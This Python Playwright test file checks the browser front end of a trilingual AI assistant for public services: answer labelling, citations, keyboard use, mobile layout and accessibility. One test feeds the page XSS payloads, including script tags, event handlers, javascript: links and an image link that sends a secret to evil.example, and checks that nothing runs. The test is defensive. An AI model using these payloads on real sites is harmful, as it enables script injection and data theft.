"""Can a citizen ask, read, check and reach a person in a real browser?"""

import asyncio
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
from playwright.sync_api import Browser, Page, Route, expect

from jauap.answer import Answer, Outcome
from jauap.assistant import Language
from jauap.testing.runtime import Asked, FakeRuntime
from jauap.testing.samples import sample_answer

pytestmark = pytest.mark.browser

PAGE = "/a/public_services?lang="
FIRST = {
    "kk": "[Жасанды интеллект жауабы]",
    "ru": "[Ответ искусственного интеллекта]",
    "en": "[AI-generated answer]",
}
BODY = {
    "kk": "Баланың тууын екі ай ішінде тіркеу керек [1].",
    "ru": "Рождение ребёнка нужно зарегистрировать в течение двух месяцев [1].",
    "en": "A birth must be registered within two months [1].",
}
QUESTIONS = {
    "kk": "Баланың тууын қалай тіркеуге болады?",
    "ru": "Как зарегистрировать рождение ребёнка?",
    "en": "How do I register the birth of a child?",
}
AXE_TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]


@contextmanager
def opened(
    browser: Browser,
    *,
    width: int = 1280,
    height: int = 900,
    scheme: str = "light",
    script: bool = True,
    touch: bool = False,
) -> Iterator[Page]:
    """Open a page that must make no noise: no console error, no request elsewhere."""
    context = browser.new_context(
        viewport={"width": width, "height": height},
        color_scheme="dark" if scheme == "dark" else "light",
        java_script_enabled=script,
        has_touch=touch,
        is_mobile=touch,
        reduced_motion="reduce",
    )
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = context.new_page()
    page.set_default_timeout(10_000)
    noise: list[str] = []
    page.on("pageerror", lambda error: noise.append(str(error)))
    page.on("dialog", lambda dialog: noise.append(f"dialog {dialog.message}"))
    page.on(
        "request",
        lambda request: (
            None if request.url.startswith("http://127.0.0.1:") else noise.append(request.url)
        ),
    )
    page.on(
        "console",
        lambda message: noise.append(message.text) if "Content Security" in message.text else None,
    )
    yield page
    context.close()
    assert noise == []


def ask(page: Page, text: str) -> None:
    """Ask once the answer before is whole: until then Enter waits for it."""
    expect(page.locator("#conversation")).not_to_have_attribute("aria-busy", "true")
    page.get_by_role("textbox").fill(text)
    page.keyboard.press("Enter")


@pytest.mark.parametrize("language", Language)
def test_asking_brings_notice_answer_sources_and_verify_link(
    browser: Browser, address: str, language: Language
) -> None:
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}{language}")
        ask(page, QUESTIONS[language])
        answer = page.locator("article.answer")
        expect(answer).to_have_attribute("lang", language.value)
        notes = answer.get_by_role("note")
        expect(notes.first).to_have_text(FIRST[language])
        expect(answer.locator(".body")).to_contain_text(BODY[language])
        expect(answer.locator(".sources li")).to_have_count(2)
        expect(page.locator(".asked")).to_contain_text(QUESTIONS[language])
        expect(page.get_by_role("textbox")).to_have_value("")
        first_child = answer.evaluate("article => article.firstElementChild.getAttribute('role')")
        assert first_child == "note"
        notes.last.get_by_role("link").click()
        expect(page.locator(".verdict")).to_be_visible()
        expect(page.locator("html")).to_have_attribute("lang", language.value)


def test_an_example_question_is_one_click(
    browser: Browser, address: str, runtime: FakeRuntime
) -> None:
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}ru")
        page.get_by_role("button", name="Как зарегистрировать рождение").click()
        expect(page.locator("article.answer")).to_be_visible()
        expect(page.locator(".examples")).to_be_hidden()
        assert [asked.text for asked in runtime.asked] == [QUESTIONS["ru"]]


def test_a_second_question_carries_the_first_as_history(
    browser: Browser, address: str, runtime: FakeRuntime
) -> None:
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}kk")
        ask(page, "Бірінші сұрақ")
        expect(page.locator("article.answer")).to_have_count(1)
        ask(page, "Екінші сұрақ")
        expect(page.locator("article.answer")).to_have_count(2)
    (turn,) = runtime.asked[1].history
    assert turn.question == "Бірінші сұрақ"
    assert "екі ай" in turn.answer


def test_a_source_opens_at_the_cited_passage_highlighted(browser: Browser, address: str) -> None:
    with opened(browser, height=420) as page:
        page.goto(f"{address}{PAGE}kk")
        ask(page, QUESTIONS["kk"])
        page.locator(".body a", has_text="[2]").click()
        quote = page.locator(".sources li").nth(1).locator("blockquote")
        expect(quote).to_be_visible()
        with page.context.expect_page() as popup:
            page.locator(".sources li").nth(1).locator("[data-open]").click()
        document = popup.value
        document.set_viewport_size({"width": 800, "height": 420})
        expect(document.locator(".passage.cited")).to_be_in_viewport()
        expect(document.locator("mark")).to_have_count(1)
        expect(document.locator("mark")).to_contain_text("Ата-анасының жеке куәлігі.")
        shade = document.locator("mark").evaluate("mark => getComputedStyle(mark).backgroundColor")
        assert shade == "rgb(255, 240, 184)"


def test_keyboard_alone_asks_reads_a_source_and_checks_the_label(
    browser: Browser, address: str
) -> None:
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}en")
        page.keyboard.press("Tab")
        expect(page.locator(".skip")).to_be_focused()
        page.keyboard.press("Enter")
        expect(page.get_by_role("textbox")).to_be_focused()
        page.keyboard.type("First line")
        page.keyboard.press("Shift+Enter")
        page.keyboard.type("second line")
        page.keyboard.press("Enter")
        expect(page.locator("article.answer")).to_be_visible()
        expect(page.locator(".asked")).to_contain_text("First line\nsecond line")
        expect(page.get_by_role("textbox")).to_be_focused()
        reached = []
        for _ in range(12):
            page.keyboard.press("Shift+Tab")
            reached.append(page.evaluate("document.activeElement.textContent.trim()"))
        assert "Copy with the label" in reached
        assert any(text.startswith("http://127.0.0.1:8000/v/") for text in reached)
        assert any(text.startswith("Open this place in the document") for text in reached)
        page.locator(".sources summary").first.focus()
        page.keyboard.press("Enter")
        expect(page.locator("blockquote").first).to_be_visible()


def test_copying_takes_the_label_along(browser: Browser, address: str) -> None:
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}ru")
        ask(page, QUESTIONS["ru"])
        page.get_by_role("button", name="Скопировать с пометкой").click()
        expect(page.get_by_role("button", name="Скопировано")).to_be_visible()
        copied = page.evaluate("navigator.clipboard.readText()")
        assert copied.startswith(FIRST["ru"])
        assert "Проверить: http://127.0.0.1:8000/v/" in copied


@pytest.mark.parametrize("path", ["chat", "document", "verify"])
def test_a_phone_of_320_pixels_scrolls_in_one_direction_only(
    browser: Browser, address: str, path: str
) -> None:
    with opened(browser, width=320, height=640, touch=True) as page:
        if path == "chat":
            page.goto(f"{address}{PAGE}kk")
            ask(page, QUESTIONS["kk"])
            expect(page.locator("article.answer")).to_be_visible()
        elif path == "document":
            page.goto(f"{address}/a/public_services/d/birth-registration.kk?from=63&to=130#p-63")
        else:
            page.goto(f"{address}/v?lang=kk")
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= 320
        small = page.evaluate(
            """() => [...document.querySelectorAll("a, button, summary")].filter(one => {
                const box = one.getBoundingClientRect();
                const inText = one.closest(".body p, .body li, .ai-notice");
                return box.width && !inText && (box.height < 24 || box.width < 24);
            }).map(one => one.textContent)"""
        )
        assert small == []


def test_twice_the_size_still_shows_everything(browser: Browser, address: str) -> None:
    # Doubling the zoom halves the width that a page has.
    with opened(browser, width=640, height=450) as page:
        page.goto(f"{address}{PAGE}ru")
        ask(page, QUESTIONS["ru"])
        expect(page.locator("article.answer")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") <= 640
        covered = page.locator("#ask").evaluate("form => getComputedStyle(form).position")
        assert covered == "static"


@pytest.mark.parametrize("language", Language)
def test_without_javascript_the_form_works_whole(
    browser: Browser, address: str, language: Language
) -> None:
    with opened(browser, script=False) as page:
        page.goto(f"{address}{PAGE}{language}")
        page.get_by_role("textbox").fill(QUESTIONS[language])
        page.locator("#send").click()
        answer = page.locator("article.answer")
        expect(answer.locator("[role=note]").first).to_have_text(FIRST[language])
        expect(answer.locator(".body")).to_contain_text(BODY[language])
        expect(page.locator("[data-copy]")).to_be_hidden()
        answer.locator("[data-open]").first.click()
        expect(page.locator(".passage.cited mark")).to_be_in_viewport()


def test_options_asked_back_ask_the_chosen_question(
    browser: Browser, address: str, runtime: FakeRuntime
) -> None:
    def say(asked: Asked) -> Answer:
        if asked.text == "Куәлік":
            answer = sample_answer(Language.KK, Outcome.ASKED_BACK)
            return Answer(**{**vars(answer), "text": "Қайсысы?\n\n- Туу\n- Неке"} | OPTIONS)
        return sample_answer(Language.KK)

    runtime.say = say
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}kk")
        ask(page, "Куәлік")
        page.get_by_role("button", name="Неке").click()
        expect(page.locator("article.answer")).to_have_count(2)
    assert [asked.text for asked in runtime.asked] == ["Куәлік", "Неке"]


OPTIONS: dict[str, tuple[str, ...]] = {"options": ("Туу", "Неке")}


def test_a_lost_connection_loses_nothing_and_can_be_repeated(
    browser: Browser, address: str
) -> None:
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}ru")
        page.route("**/chat", lambda route: route.abort())
        ask(page, QUESTIONS["ru"])
        expect(page.get_by_role("alert")).to_contain_text("Связь со службой прервалась.")
        expect(page.get_by_role("alert")).to_contain_text("Ваш вопрос сохранён в поле.")
        expect(page.get_by_role("textbox")).to_have_value(QUESTIONS["ru"])
        expect(page.locator(".exchange")).to_have_count(0)
        page.unroute("**/chat")
        page.get_by_role("button", name="Повторить вопрос").click()
        expect(page.locator("article.answer")).to_be_visible()
        expect(page.get_by_role("alert")).to_be_hidden()


def test_an_error_of_the_service_is_shown_in_the_pages_language(
    browser: Browser, address: str
) -> None:
    def refuse(route: Route) -> None:
        error = {
            "code": "rate_limited",
            "message": {"kk": "Тым жиі.", "ru": "Часто.", "en": "Often."},
            "remedy": {"kk": "Күтіңіз.", "ru": "Ждите.", "en": "Wait."},
        }
        route.fulfill(status=429, json={"error": error})

    with opened(browser) as page:
        page.goto(f"{address}{PAGE}kk")
        page.route("**/chat", refuse)
        ask(page, QUESTIONS["kk"])
        expect(page.get_by_role("alert")).to_contain_text("Тым жиі. Күтіңіз.")
        expect(page.get_by_role("textbox")).to_have_value(QUESTIONS["kk"])


def test_waiting_is_said_aloud_and_a_second_press_does_not_ask_twice(
    browser: Browser, address: str, runtime: FakeRuntime
) -> None:
    may_answer = threading.Event()

    async def wait() -> None:
        await asyncio.to_thread(may_answer.wait, 10)

    runtime.wait = wait
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}en")
        ask(page, QUESTIONS["en"])
        status = page.get_by_role("status")
        expect(status).to_have_text("Composing and checking the answer…")
        expect(page.locator("#conversation")).to_have_attribute("aria-busy", "true")
        page.keyboard.press("Enter")
        may_answer.set()
        expect(page.locator("article.answer")).to_have_count(1)
        expect(status).to_have_text("")
    assert len(runtime.asked) == 1


def test_an_answer_full_of_attacks_runs_nothing_and_asks_nobody(
    browser: Browser, address: str, runtime: FakeRuntime
) -> None:
    attacks = (
        "<script>alert(1)</script> <img src=x onerror=alert(1)> [a](javascript:alert(1)) "
        "![q](https://evil.example/?d=SECRET) <svg onload=alert(1)> <https://evil.example> "
        '<iframe src="https://evil.example"></iframe> [b](//evil.example/x)'
    )
    runtime.say = lambda asked: Answer(
        **{**vars(sample_answer(Language.KK)), "text": attacks, "options": (attacks,)}
    )
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}kk")
        ask(page, attacks)
        expect(page.locator("article.answer")).to_be_visible()
        for link in page.locator("article.answer .body a").all():
            assert (link.get_attribute("href") or "").startswith("#")


def test_paper_shows_question_answer_and_label(browser: Browser, address: str) -> None:
    with opened(browser) as page:
        page.goto(f"{address}{PAGE}kk")
        ask(page, QUESTIONS["kk"])
        expect(page.locator("article.answer")).to_be_visible()
        page.emulate_media(media="print")
        expect(page.locator(".asked")).to_be_visible()
        expect(page.locator(".ai-notice.last")).to_be_visible()
        expect(page.locator("#ask")).to_be_hidden()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("language", Language)
def test_no_page_has_a_barrier_that_axe_finds(
    browser: Browser, address: str, language: Language, scheme: str
) -> None:
    found: dict[str, list[str]] = {}
    options = {"runOnly": {"type": "tag", "values": AXE_TAGS}}
    with opened(browser, scheme=scheme) as page:

        def check(name: str) -> None:
            result = Axe().run(page, options=options)
            found[name] = [
                f"{one['id']}: {[node['html'][:120] for node in one['nodes']]}"
                for one in result.response["violations"]
            ]

        page.goto(f"{address}{PAGE}{language}")
        check("start")
        ask(page, QUESTIONS[language])
        expect(page.locator("article.answer")).to_be_visible()
        page.locator(".sources summary").first.click()
        check("answer")
        page.set_viewport_size({"width": 320, "height": 640})
        check("phone")
        page.set_viewport_size({"width": 1280, "height": 900})
        page.get_by_role("textbox").fill(" ")
        page.keyboard.press("Enter")
        check("trouble")
        page.goto(f"{address}/a/public_services/d/birth-registration.kk?lang={language}&to=9")
        check("document")
        page.goto(f"{address}/v?lang={language}")
        check("verify")
        page.goto(f"{address}/v/000000000000?lang={language}")
        check("unknown code")
        page.goto(f"{address}/a/nobody?lang={language}")
        check("error")
    assert {name: problems for name, problems in found.items() if problems} == {}
    assert len(found) == 8
